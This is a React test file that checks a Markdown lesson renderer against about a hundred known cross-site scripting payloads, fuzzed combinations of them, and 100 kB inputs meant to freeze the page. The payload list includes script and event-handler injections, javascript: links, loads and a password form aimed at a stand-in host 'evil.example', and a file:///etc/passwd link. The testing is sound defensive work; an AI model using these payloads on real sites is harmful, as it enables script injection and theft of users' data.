import { render } from '@testing-library/react';
import fc from 'fast-check';
import { IntlProvider } from 'use-intl';
import { describe, expect, it } from 'vitest';
import platform from '#platform/web/messages/lt.ts';
import { drawLesson } from '../../shared/lesson-drawing.rules.ts';
import { lessonDrawingSchema } from '../../shared/lesson-drawing.ts';
import lesson from '../messages/lesson-lt.ts';
import { LessonBody } from './lesson-body.tsx';

const evil = 'https://evil.example';

/** Known attacks on Markdown readers. */
const known = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  `<script src=${evil}/a.js></script>`,
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert`1`" /><br>',
  `<img srcset="${evil}/a.png 1x, ${evil}/b.png 2x">`,
  `<picture><source srcset="${evil}/a.webp"><img></picture>`,
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>',
  `<iframe src="${evil}"></iframe>`,
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<object data="${evil}/a.swf"></object><embed src="${evil}/a.swf">`,
  `<form action="${evil}"><input name=password autofocus onfocus=alert(1)><button>Ok</button></form>`,
  `<style>@import "${evil}/a.css"; body { background: url(${evil}/a.png) }</style>`,
  `<link rel=stylesheet href="${evil}/a.css">`,
  `<base href="${evil}/">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<video poster="${evil}/a.png"><source src="${evil}/a.mp4"></video>`,
  `<audio src="${evil}/a.mp3" autoplay>`,
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<p style="position:fixed;inset:0" onmouseover=alert(1)>x</p>',
  '<div id="location" data-block="exercise" data-exercise="e1">x</div>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?><img src=x onerror=alert(1)>',
  '<custom-element onclick=alert(1)></custom-element>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#115;cript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\nscript:alert(1)>)',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://orbita.lt/1)',
  '[x](https://evil.example "title\\" onmouseover=alert(1) ")',
  '[x][y]\n\n[y]: javascript:alert(1) "onclick=alert(1)"',
  '<javascript:alert(1)>',
  `<${evil}/?<script>alert(1)</script>>`,
  '![x](javascript:alert(1))',
  `![x](${evil}/a.png)`,
  `![x](${evil}/a.png"onerror="alert(1))`,
  `![x][y]\n\n[y]: ${evil}/a.png`,
  `[![x](${evil}/a.png)](javascript:alert(1))`,
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '```python onload=alert(1) class=x\nx\n```',
  '# <img src=x onerror=alert(1)>',
  '# location\n# cookie\n# __proto__\n# constructor\n# main\n# root',
  '[^__proto__] [^constructor]\n\n[^__proto__]: x\n\n[^constructor]: <script>alert(1)</script>',
  '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | x |',
  '- [x] <input type=text onfocus=alert(1) autofocus>',
  ':::hint[<img src=x onerror=alert(1)>]\n<script>alert(1)</script>\n:::',
  ':::hint{onclick=alert(1) style="color:red" id=location class=x}\nx\n:::',
  ':::script\nalert(1)\n:::',
  `:::iframe{src="${evil}"}\nx\n:::`,
  ':::div{.x #location data-block=video}\nx\n:::',
  `::iframe{src="${evil}"}`,
  '::script[alert(1)]{src=x}',
  ':script[alert(1)]{src=x}',
  ':kbd[<script>alert(1)</script>]',
  '::picture{file="f1" alt="x" onerror="alert(1)" src="javascript:alert(1)" srcset="https://evil.example/a.png"}',
  `::picture{file="${evil}/a.png" alt=x}`,
  '::picture{file="../../api/identity/session" alt=x}',
  '::picture{file=__proto__ alt="\\"onerror=alert(1)"}',
  `::file{file="javascript:alert(1)"}`,
  `::video{url="${evil}/watch?v=dQw4w9WgXcQ"}`,
  '::video{url="javascript:alert(1)//youtube.com/watch?v=dQw4w9WgXcQ"}',
  '::video{url="https://youtube.com.evil.example/watch?v=dQw4w9WgXcQ" title="<script>"}',
  '::video{url="https://www.youtube.com/watch?v=dQw4w9WgXcQ" title="<img src=x onerror=alert(1)>"}',
  '::scratch{project="1/../../evil" file="f1"}',
  '::scratch{project="1\\"onload=alert(1)"}',
  '::exercise{id="e1\\" onload=alert(1)"}',
  '> <script>alert(1)</script>\n> - <img src=x onerror=alert(1)>\n>   1. [x](javascript:alert(1))',
  ':::note\n:::hint\n</div></details><script>alert(1)</script>\n:::\n:::',
  '\u202e<script>alert(1)</script>',
  '\u0000<script>alert(1)</script>\u0000',
  `www.evil.example/<script>`,
  'javascript:alert(1)',
  `a@evil.example<script>`,
  '</p></div></main><script>alert(1)</script>',
  '<a href="https://evil.example" target=_top ping="https://evil.example/p" download>x</a>',
  '<body onload=alert(1) background="https://evil.example/a.png">',
  '<input type=image src="https://evil.example/a.png" formaction="javascript:alert(1)">',
];

const place = { idPrefix: 'lesson', headingLevel: 2 } as const;

const safeTags = new Set(
  [
    ...['p', 'a', 'em', 'strong', 'del', 'code', 'kbd', 'sup', 'br', 'hr', 'blockquote', 'pre', 'span'],
    ...['ul', 'ol', 'li', 'section', 'div', 'table', 'thead', 'tbody', 'tr', 'th', 'td'],
    ...[
      'h2',
      'h3',
      'h4',
      'h5',
      'h6',
      'figure',
      'figcaption',
      'details',
      'summary',
      'button',
      'fieldset',
      'label',
      'svg',
      'path',
    ],
  ].map((tag) => tag.toUpperCase()),
);
/** The box of a thing to do, which sends nothing anywhere. */
const ownBox = 'label > input[type="checkbox"]:not([name], [autofocus], [form])';
const safeLink = /^(https?:|mailto:|#lesson-|[^:]*$)/i;

/** Forbidden content that a body brought to the page. */
function findings(container: HTMLElement): string[] {
  const found: string[] = [];
  for (const element of container.querySelectorAll('*')) {
    const tag = element.tagName.toUpperCase();
    if (!safeTags.has(tag) && !element.matches(ownBox)) found.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      const isOurs = tag === 'SVG' || tag === 'PATH';
      if (/^on/i.test(name)) found.push(`${tag} ${name}`);
      if (/^(src|srcset|srcdoc|action|formaction|poster|ping|data|background|xlink:href|content)$/.test(name))
        found.push(`${tag} ${name}=${value}`);
      if (name === 'href' && !safeLink.test(value)) found.push(`${tag} href=${value}`);
      if (name === 'style' && !isOurs && !/^(text-align: (left|right|center);|--[\w-]+:.*)$/.test(value))
        found.push(`${tag} style=${value}`);
      if (name === 'id' && !/^lesson-/.test(value)) found.push(`${tag} id=${value}`);
      if (name === 'target' && value !== '_blank') found.push(`${tag} target=${value}`);
    }
  }
  return found;
}

function draw(body: string): HTMLElement {
  const { container, unmount } = render(
    <IntlProvider locale="lt" messages={{ ...platform, lesson }} timeZone="Europe/Vilnius">
      <LessonBody drawing={drawLesson(body, place)} files={[]} />
    </IntlProvider>,
  );
  const copy = container.cloneNode(true) as HTMLElement;
  unmount();
  return copy;
}

describe('a hostile body', () => {
  it.each(known)('renders no more than text: %s', (body) => {
    const container = draw(body);
    expect(findings(container)).toEqual([]);
    expect(lessonDrawingSchema.safeParse(drawLesson(body, place)).success).toBe(true);
  });

  it('renders no more than text, however its pieces are combined', () => {
    const glue = fc.constantFrom(
      '',
      ' ',
      '\n',
      '\n\n',
      '> ',
      '- ',
      '**',
      '`',
      '[',
      '](',
      ':::note\n',
      '\n:::\n',
      '|',
    );
    const piece = fc.oneof(
      { weight: 6, arbitrary: fc.constantFrom(...known) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
    );
    const body = fc
      .array(fc.tuple(piece, glue), { minLength: 2, maxLength: 4 })
      .map((pieces) => pieces.flat().join(''));
    fc.assert(
      fc.property(body, (hostile) => {
        expect(findings(draw(hostile))).toEqual([]);
      }),
      { numRuns: 100 },
    );
  });

  it.each([
    ['brackets', '['.repeat(100_000)],
    ['brackets that close', `${'['.repeat(50_000)}${']'.repeat(50_000)}`],
    ['quotes within quotes', '>'.repeat(100_000)],
    ['lists within lists', '- '.repeat(50_000)],
    ['hints within hints', ':::hint\n'.repeat(12_000)],
    ['stars', '**a*_'.repeat(20_000)],
    ['a table of twenty thousand cells', `|a|b|\n|-|-|\n${'|a|b|\n'.repeat(10_000)}`],
    ['footnotes', '[^a]'.repeat(25_000)],
    ['HTML', '<a b="'.repeat(16_000)],
    ['ticks', '`a``'.repeat(25_000)],
  ])('does not freeze the page: 100 kB of %s', (_title, body) => {
    const timeOf = () => {
      const began = performance.now();
      expect(findings(draw(body))).toEqual([]);
      return performance.now() - began;
    };
    // Other work on the machine only adds time.
    let quickest = timeOf();
    for (let again = 0; again < 3 && quickest > 2_000; again += 1) quickest = Math.min(quickest, timeOf());
    expect(quickest).toBeLessThan(4_000);
  });
});
